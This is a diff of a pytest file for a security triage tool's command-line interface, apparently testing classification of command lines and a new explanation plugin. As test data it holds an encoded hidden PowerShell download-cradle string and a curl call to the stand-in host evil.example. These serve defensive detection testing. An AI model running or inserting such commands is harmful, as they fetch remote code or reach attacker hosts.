@@ -5,13 +5,21 @@ from __future__ import annotations
 import json
 
 import pytest
+import yaml
 from click.testing import CliRunner, Result
 
 from sftsec_core.cli import cli
+from sftsec_core.config.settings import Settings
 from tests.core.cli.invoke import error_of, invoke, json_of, printed
 from tests.e2e.site import Site
 
 ATTACK = "powershell -nop -w hidden -enc SQBFAFgA downloadstring"
+
+
+def enable(site: Site, *names: str) -> None:
+    settings = yaml.safe_load(site.config.read_text("utf-8"))
+    settings["plugins"] = [*Settings().plugins, *names]
+    site.config.write_text(yaml.safe_dump(settings), "utf-8")
 
 
 def typed(site: Site, lines: str, *options: str) -> Result:
@@ -39,17 +47,16 @@ class TestPredict:
         assert alerts.keys() == {uid.rpartition("#")[2] for uid in pushed}
         assert sorted(alerts.values()) == pytest.approx(sorted(pushed.values()), abs=1e-6)
 
-    def test_names_the_telling_pieces(self, site: Site) -> None:
-        (found,) = json_of(site, "predict", "triage", "--field", f"process.command_line={ATTACK}")[
-            "predictions"
-        ]
+    def test_gives_calibrated_probabilities(self, site: Site) -> None:
+        (found,) = json_of(site, "predict", "triage", ATTACK)["predictions"]
         assert set(found["probabilities"]) == {"benign", "malicious"}
         assert sum(found["probabilities"].values()) == pytest.approx(1)
-        influences = [piece["influence"] for piece in found["pieces"]]
-        assert influences == sorted(influences, reverse=True)
-        assert all(piece["text"] in ATTACK for piece in found["pieces"])
-        shown = printed(site, "predict", "triage", "--field", f"process.command_line={ATTACK}")
-        assert shown.startswith(f"{found['decision']}  {found['label']}  probability ")
+        assert found["explanation"] is None
+        shown = printed(site, "predict", "triage", ATTACK)
+        assert shown == (
+            f"{found['decision']}  {found['label']}  probability {found['probability']:.4f}, "
+            f"alerts from {found['threshold']:.4f}\n"
+        )
 
     def test_reads_numbers_of_any_length(self, site: Site) -> None:
         texts = ("9" * 5000, "1234567890123456789012", '["a\\udc00", 123456789012345678901]')
@@ -78,3 +85,42 @@ class TestPredict:
         assert invoke(site, "predict", "triage", "--field", "nonsense").exit_code == 2
         result = typed(site, '{"message": "a text"\n')
         assert result.exit_code == 0, "an unfinished object is a text"
+
+
+class TestWhy:
+    @pytest.fixture
+    def explaining(self, site: Site) -> Site:
+        enable(site, "explain")
+        return site
+
+    def test_names_words_fields_and_neighbours(self, explaining: Site) -> None:
+        (found,) = json_of(
+            explaining, "predict", "triage", "--field", f"process.command_line={ATTACK}", "--why"
+        )["predictions"]
+        why = found["explanation"]
+        assert (why["label"], why["method"]) == (found["label"], "exact")
+        for each in why["attributions"]:
+            start, end = each["span"]
+            assert each["input"] == "process.command_line"
+            assert ATTACK[start:end] == each["words"]
+        assert why["neighbours"], "the newest data set has labelled incidents"
+        assert {each["label"] for each in why["neighbours"]} <= {"benign", "malicious"}
+
+    def test_is_shown_in_words_and_figures(self, explaining: Site) -> None:
+        given = f"process.command_line={ATTACK} [b]x\x1b[31m"
+        shown = printed(explaining, "predict", "triage", "--field", given, "--why")
+        lines = shown.splitlines()
+        assert lines[1].startswith("  because of `")
+        assert any(line.endswith("(process.command_line)") for line in lines)
+        assert "\x1b" not in "".join(lines)
+
+    def test_explains_the_redacted_text(self, explaining: Site) -> None:
+        given = "curl http://evil.example -u anna@shop.example"
+        (found,) = json_of(explaining, "predict", "triage", given, "--why")["predictions"]
+        assert "anna@shop" not in json.dumps(found)
+
+    def test_asks_for_a_plugin_that_says_why(self, site: Site) -> None:
+        found = str(error_of(site, "predict", "triage", ATTACK, "--why"))
+        assert found.endswith(
+            "no enabled plugin says why: set plugins: [core, files, pii, explain]"
+        )
